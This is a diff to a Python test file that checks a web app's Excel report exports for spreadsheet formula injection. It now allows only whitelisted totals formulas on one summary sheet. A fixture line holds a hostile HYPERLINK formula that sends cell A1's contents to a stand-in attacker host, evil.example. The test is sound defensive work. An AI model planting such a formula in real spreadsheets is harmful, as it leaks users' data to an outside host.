@@ -386,19 +386,23 @@ HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
 FORMULA_START = ("=", "+", "-", "@")
 
 
-def assert_no_formula(body: bytes) -> int:
-    """No cell of the workbook is a formula, and every text that looks like one is marked as text."""
+#: The only formulas a writer may put in: the follow-up report's own totals over its number cells.
+OWN_TOTALS = re.compile(r"=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|IF\([A-Z]+\d+=0,0,IF\([A-Z]+\d+>=[A-Z]+\d+,100,"
+                        r"MIN\(99,ROUND\([A-Z]+\d+/[A-Z]+\d+\*100,0\)\)\)\))")
+
+
+def assert_no_formula(body: bytes, totals_sheet: str | None = None) -> int:
+    """No cell is a formula (but the report's own totals on `totals_sheet`), and every text that looks
+    like one is marked as text."""
     from openpyxl import load_workbook
 
-    with zipfile.ZipFile(io.BytesIO(body)) as archive:
-        for name in archive.namelist():
-            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
-                assert not re.search(rb"<f[ >]", archive.read(name)), f"a formula in {name}"
     hostile = 0
     for ws in load_workbook(io.BytesIO(body)).worksheets:
         for row in ws.iter_rows():
             for cell in row:
-                assert cell.data_type != "f", cell.coordinate
+                if cell.data_type == "f":
+                    assert ws.title == totals_sheet and OWN_TOTALS.fullmatch(cell.value), (ws.title, cell.value)
+                    continue
                 if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                     hostile += 1
                     assert cell.value.startswith("'") or cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
@@ -424,7 +428,7 @@ def test_followup_report_xlsx_keeps_hostile_text_as_text(world, login):
     _poison(world)
     response = login(world.manager).get(f"/plans/{world.plan.id}/report.xlsx?as_of=2023-08-01")
     assert response.status_code == 200
-    assert assert_no_formula(response.data) >= 3
+    assert assert_no_formula(response.data, totals_sheet="สรุป") >= 3
 
 
 def test_province_overview_xlsx_keeps_hostile_text_as_text(world, login, monkeypatch):
